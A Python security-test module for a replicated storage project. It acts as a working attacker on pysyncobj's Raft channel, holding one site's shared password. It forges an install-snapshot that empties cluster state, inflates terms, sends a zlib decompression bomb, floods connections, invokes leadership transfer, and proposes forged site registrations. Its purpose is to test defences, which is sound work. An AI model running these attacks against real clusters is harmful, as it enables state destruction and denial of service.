"""The attacker of the security tests on the Raft channel: a real process holding everything
of ONE site (its config, hence the cluster's shared Raft password, and its data dir) that
speaks pysyncobj's wire format with code of its own.

Run as ``python3 -m tests.security.raft_attacker MODE --config SITE.toml --target HOST:PORT
[options]``. It prints one JSON line per attempt with what it saw (``closed``: the target
dropped the connection; ``reply``: a decoded answer) and exits 0 whatever the target did:
the tests judge the honest sites, not the attacker's view.

Wire format (pysyncobj 0.3.17, ``tcp_connection.py`` / ``transport.py``): a frame is
``<i length`` + ``Fernet(zlib(pickle(message)))``. The connecting side sends 32 random
bytes, the server answers with its own 32, then the connecting side sends its identity
(a member's ``"host:port"``, ``"readonly"``, or a utility command such as ``["status"]``),
and every later message travels as ``(server_random, message)``.

Modes:

* ``install-snapshot``: an ``append_entries`` carrying ``serialized`` (pysyncobj's
  install-snapshot) whose dump is an empty state (no sites, no volumes, empty audit),
  ``--term-add`` above the term in this site's own Raft meta file, sent as ``--as``
  (``readonly``, or a member address: this site's own by default).
* ``term``: ``--count`` heartbeats (``append_entries``) and ``request_vote`` messages at
  ``--term-add`` above this site's term, sent as this site.
* ``bomb``: right after the key exchange, one frame whose zlib stream expands to ``--mib`` MiB.
* ``flood``: ``--count`` TCP connections that send nothing; held up to ``--hold-s``; reports
  how many the target closed and after how long.
* ``utility``: pysyncobj's utility messages ``status`` and ``transfer`` (leadership transfer).
* ``bloat``: runs this site's Raft member itself (the site's daemon must be down) and
  proposes ``--count`` ``register_site`` commands for sites no config names.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import pickle
import socket
import struct
import sys
import time
import zlib
from pathlib import Path

import msgpack

from replicad.config import load_config


def out(**fields) -> None:
    print(json.dumps(fields, default=str), flush=True)


class Wire:
    """One raw pysyncobj connection with the shared password (blocking socket)."""

    def __init__(self, target: str, password: str, timeout_s: float = 5.0) -> None:
        from pysyncobj.encryptor import getEncryptor

        host, port = target.rsplit(":", 1)
        self.fernet = getEncryptor(password)
        self.sock = socket.create_connection((host, int(port)), timeout=timeout_s)
        self.server_key: bytes | None = None

    @classmethod
    def accept_as(cls, own: str, password: str, timeout_s: float = 15.0) -> "Wire | None":
        """Listen on this site's own Raft address and take the connection a partner dials to it.

        pysyncobj's greater address dials: to speak to a partner whose address sorts above its
        own, the attacker (whose daemon is down) serves its own port, as a replaced daemon would.
        """
        from pysyncobj.encryptor import getEncryptor

        host, port = own.rsplit(":", 1)
        server = socket.socket()
        server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        server.bind((host, int(port)))
        server.listen(4)
        server.settimeout(timeout_s)
        try:
            sock, _ = server.accept()
        except OSError:
            return None
        finally:
            server.close()
        wire = cls.__new__(cls)
        wire.fernet = getEncryptor(password)
        wire.sock = sock
        sock.settimeout(5.0)
        wire.server_key = None
        their_key = wire.recv()
        if not isinstance(their_key, bytes):
            return None
        wire.server_key = their_key  # we wrap what we send with the dialer's key
        wire.send(os.urandom(32))
        wire.recv()  # the dialer names itself
        return wire

    def send_raw(self, payload: bytes) -> None:
        data = self.fernet.encrypt_at_time(payload, 0)
        try:
            self.sock.sendall(struct.pack("i", len(data)) + data)
        except OSError:
            pass  # closed by the target: closed_within() reports it

    def send(self, message) -> None:
        if self.server_key is not None:
            message = (self.server_key, message)
        self.send_raw(zlib.compress(pickle.dumps(message, 2), 3))

    def recv(self):
        """One decoded message, or None when the target closed the connection."""
        try:
            header = self._read(4)
            if header is None:
                return None
            (length,) = struct.unpack("i", header)
            data = self._read(length)
            if data is None:
                return None
        except (ConnectionResetError, socket.timeout, OSError):
            return None
        return pickle.loads(zlib.decompress(self.fernet.decrypt(data)))

    def _read(self, n: int) -> bytes | None:
        buf = b""
        while len(buf) < n:
            chunk = self.sock.recv(n - len(buf))
            if not chunk:
                return None
            buf += chunk
        return buf

    def handshake(self, identity) -> bool:
        """Exchange the random keys and name ``identity``; False if the target closed."""
        self.server_key = self.exchange_keys()
        if self.server_key is None:
            return False
        self.send(identity)
        return True

    def exchange_keys(self) -> bytes | None:
        """Send our random key; the server's (it answers ``(our_key, its_key)``), or None."""
        mine = os.urandom(32)
        self.send(mine)
        reply = self.recv()
        if isinstance(reply, tuple) and len(reply) == 2 and reply[0] == mine and isinstance(reply[1], bytes):
            return reply[1]
        return None

    def closed_within(self, wait_s: float) -> bool:
        """True if the target closes the connection within ``wait_s`` (messages are drained)."""
        deadline = time.monotonic() + wait_s
        while time.monotonic() < deadline:
            self.sock.settimeout(max(0.05, deadline - time.monotonic()))
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout:
                return False
            except OSError:
                return True
            if not chunk:
                return True
        return False

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass


def own_term(cfg) -> int:
    """The current term in this site's own Raft meta file (the attacker holds the data dir)."""
    try:
        return int(json.loads((cfg.data_dir / "raft" / "raft.journal.meta").read_text()).get("currentTerm", 0))
    except (OSError, ValueError):
        return 0


def member_wire(cfg, target: str) -> tuple["Wire | None", bool]:
    """A connection to ``target`` speaking as this site: dialed when this site's address sorts
    above the target's (pysyncobj's rule), else accepted on this site's own port."""
    me, password = cfg.self_ref().raft, cfg.raft_password.get_secret_value()
    if me > target:
        wire = Wire(target, password)
        return wire, wire.handshake(me)
    wire = Wire.accept_as(me, password)
    return wire, wire is not None


def forged_dump(term: int) -> bytes:
    """The msgpack dump replicad writes, of an empty cluster: no sites, no volumes, no audit."""
    state = {"v": 1, "sites": {}, "volumes": {}, "audit": [], "applied_ops": {}, "clocks": {}}
    last = [b"\x01", 10**6, term]
    return msgpack.packb({"v": 1, "state": state, "last": last, "prev": [b"\x01", 10**6 - 1, term],
                          "cluster": []}, use_bin_type=True)


def mode_install_snapshot(cfg, args) -> None:
    me = cfg.self_ref().raft
    term = own_term(cfg) + args.term_add
    if args.as_:
        wire = Wire(args.target, cfg.raft_password.get_secret_value())
        ok = wire.handshake(args.as_)
    else:
        wire, ok = member_wire(cfg, args.target)
    if ok:
        wire.send({"type": "append_entries", "term": term, "commit_index": 10**6,
                   "serialized": (forged_dump(term), True, True)})
    out(mode="install-snapshot", target=args.target, identity=args.as_ or me, term=term,
        handshake=ok, closed=wire.closed_within(args.wait_s) if wire else True)
    if wire:
        wire.close()


def mode_term(cfg, args) -> None:
    term = own_term(cfg) + args.term_add
    wire, ok = member_wire(cfg, args.target)
    if ok:
        for i in range(args.count):
            wire.send({"type": "request_vote", "term": term + i, "last_log_index": 10**9, "last_log_term": term})
            wire.send({"type": "append_entries", "term": term + i, "commit_index": 0,
                       "prevLogIdx": 10**9, "prevLogTerm": term, "entries": []})
            time.sleep(args.interval_s)
    out(mode="term", target=args.target, term=term, handshake=ok,
        closed=wire.closed_within(args.wait_s) if wire else True)
    if wire:
        wire.close()


def mode_bomb(cfg, args) -> None:
    comp = zlib.compressobj(9)
    zero = bytes(1 << 20)
    payload = b"".join(comp.compress(zero) for _ in range(args.mib)) + comp.flush()
    wire = Wire(args.target, cfg.raft_password.get_secret_value())
    wire.server_key = wire.exchange_keys()  # the very next frame (the identity) is the bomb
    ok = wire.server_key is not None
    if ok:
        wire.send_raw(payload)  # not a pickle at all: the expansion itself is the attack
    out(mode="bomb", target=args.target, compressed_bytes=len(payload), expands_to=args.mib << 20,
        handshake=ok, closed=wire.closed_within(args.wait_s) if wire else True)
    if wire:
        wire.close()


def mode_flood(cfg, args) -> None:
    host, port = args.target.rsplit(":", 1)
    socks, refused = [], 0
    start = time.monotonic()
    for _ in range(args.count):
        try:
            socks.append(socket.create_connection((host, int(port)), timeout=2))
        except OSError:
            refused += 1
    closed_after: list[float] = []
    pending = list(socks)
    deadline = start + args.hold_s
    while pending and time.monotonic() < deadline:
        for s in list(pending):
            s.settimeout(0.01)
            try:
                chunk = s.recv(1)
            except socket.timeout:
                continue
            except OSError:
                chunk = b""
            if not chunk:
                closed_after.append(time.monotonic() - start)
                pending.remove(s)
        time.sleep(0.05)
    for s in socks:
        s.close()
    out(mode="flood", target=args.target, opened=len(socks), refused=refused, closed=len(closed_after),
        still_open=len(pending), max_closed_after_s=max(closed_after, default=None))


def mode_utility(cfg, args) -> None:
    for command in (["status"], ["transfer", args.target]):
        wire = Wire(args.target, cfg.raft_password.get_secret_value())
        key = wire.exchange_keys()
        reply = None
        if key is not None:
            wire.server_key = key
            wire.send(command)
            wire.sock.settimeout(args.wait_s)
            reply = wire.recv()
        out(mode="utility", target=args.target, command=command[0],
            answered=reply is not None, reply=str(reply)[:200] if reply is not None else None)
        wire.close()


def mode_bloat(cfg, args) -> None:
    from replicad.consensus.raft import RaftNode

    me = cfg.self_ref().raft
    partners = [s.raft for s in cfg.sites if s.site_id != cfg.site_id]
    work = Path(args.work_dir)
    node = RaftNode(me, partners, work, cfg.raft_password.get_secret_value())
    node.start()

    async def run() -> dict:
        accepted = refused = failed = 0
        deadline = time.monotonic() + args.wait_s
        while node.status().get("leader") is None and time.monotonic() < deadline:
            await asyncio.sleep(0.1)
        for i in range(args.count):
            if time.monotonic() > deadline:
                break
            try:
                await node.propose({"op": "register_site", "by": f"forged-{i}", "now_ns": time.time_ns(),
                                    "site_id": f"forged-{i}", "peer_url": f"http://127.0.0.1:{1000 + i}",
                                    "kind": "data"}, timeout_s=3.0)
                accepted += 1
            except Exception as exc:  # the tests judge the honest sites; count what happened
                if getattr(exc, "code", "") == "no_quorum":
                    failed += 1
                else:
                    refused += 1
        return {"accepted": accepted, "refused": refused, "failed": failed}

    try:
        result = asyncio.run(run())
    finally:
        node.close()
    out(mode="bloat", **result)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="raft_attacker")
    parser.add_argument("mode", choices=["install-snapshot", "term", "bomb", "flood", "utility", "bloat"])
    parser.add_argument("--config", required=True, type=Path)
    parser.add_argument("--target", default="")
    parser.add_argument("--as", dest="as_", default=None)
    parser.add_argument("--term-add", type=int, default=1000)
    parser.add_argument("--count", type=int, default=1)
    parser.add_argument("--interval-s", type=float, default=0.0)
    parser.add_argument("--mib", type=int, default=1024)
    parser.add_argument("--hold-s", type=float, default=10.0)
    parser.add_argument("--wait-s", type=float, default=3.0)
    parser.add_argument("--work-dir", default="")
    args = parser.parse_args(argv)
    cfg = load_config(args.config)
    {"install-snapshot": mode_install_snapshot, "term": mode_term, "bomb": mode_bomb, "flood": mode_flood,
     "utility": mode_utility, "bloat": mode_bloat}[args.mode](cfg, args)
    return 0


if __name__ == "__main__":
    sys.exit(main())
